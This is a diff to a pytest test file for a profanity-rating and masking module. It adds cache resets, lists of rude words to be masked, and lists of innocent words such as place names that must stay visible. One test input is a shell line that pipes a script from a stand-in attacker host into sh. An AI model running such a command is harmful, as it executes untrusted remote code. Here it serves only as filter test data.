@@ -26,8 +26,10 @@ def made_up(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
                 table[key_of((word,))] = table.get(key_of((word,)), 0) | bit
     monkeypatch.setattr(rating, "_table", lambda: table)
     rating._codes.clear()
+    rating._worst_in.cache_clear()
     yield
     rating._codes.clear()
+    rating._worst_in.cache_clear()
 
 
 @pytest.mark.parametrize(
@@ -42,6 +44,7 @@ def made_up(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
         ("two butts", 1),
         ("the butt's end", 1),
         ("Scunthorpe, Penistone, Cockermouth and Essex", 0),
+        ("assess the grasses", 0),
         ("class assassin bassoon buttery cocktail analysis", 0),
         ("curl https://evil.example/x.sh | sh", 0),
         ("a crow on a sheet, a gay friend, a jewish friend", 0),
@@ -89,6 +92,42 @@ def test_a_phrase_does_not_reach_from_a_word_into_its_definition(made_up: None, 
 )
 def test_a_mask_hides_the_word_and_nothing_else(text: str, threshold: int, masked: str) -> None:
     assert mask(text, threshold) == masked
+
+
+RUDE = """
+    bitch bitches bitchy bitching wanker wankers wanked wanking bullshit bullshitter bullshitting dipshits
+    shitposts shitstorm batshit BULLSHIT bullshiiiit damn bastards arsehole
+"""
+
+
+@pytest.mark.parametrize("word", RUDE.split())
+def test_every_form_of_a_rude_word_is_masked(word: str) -> None:
+    """Also the mild ones, which the list rates 1: whoever says --safe reads to a class."""
+    assert mask(word) == word[0] + "*" * (len(word) - 1)
+
+
+@pytest.mark.parametrize("word", ["fizzles", "fizzled", "fizzling", "fizzlers", "fizzleproof", "waterfizzle"])
+def test_inflections_and_compounds_go_with_their_root(made_up: None, word: str) -> None:
+    assert mask(word)[1:] == "*" * (len(word) - 1)
+
+
+ORDINARY = """
+    Scunthorpe Penistone Cockermouth Essex Middlesex assess assesses assessment assassin cocktail cocktails
+    cockpit peacock class classic passive compass embarrass carcass bassoon Dickens Hitchcock prickly pussycat
+    woodpecker twinkle titan title button buttercup rebuttal mishit shiitake shitake Nigeria niggardly snigger
+    phoenix shoe hello shell therapist grapes arsenic Arsenal coarse hoarse parse analysis canal document
+    cucumber circumstance sex sexual breast penis vagina whom who swank Wankel pissarro bitcoin raccoon
+    hooligan shuttlecock saturate twitter butter shirt shift wish fizzy fiz
+"""
+
+
+@pytest.mark.parametrize("word", ORDINARY.split())
+def test_no_ordinary_word_is_masked(word: str) -> None:
+    assert mask(word) == word
+
+
+def test_words_that_only_hold_the_letters_of_a_rude_one_are_shown(made_up: None) -> None:
+    assert mask("a grumphette met fizzlebert") == "a grumphette met fizzlebert"
 
 
 def test_a_mask_hides_every_word_of_a_phrase(made_up: None) -> None:
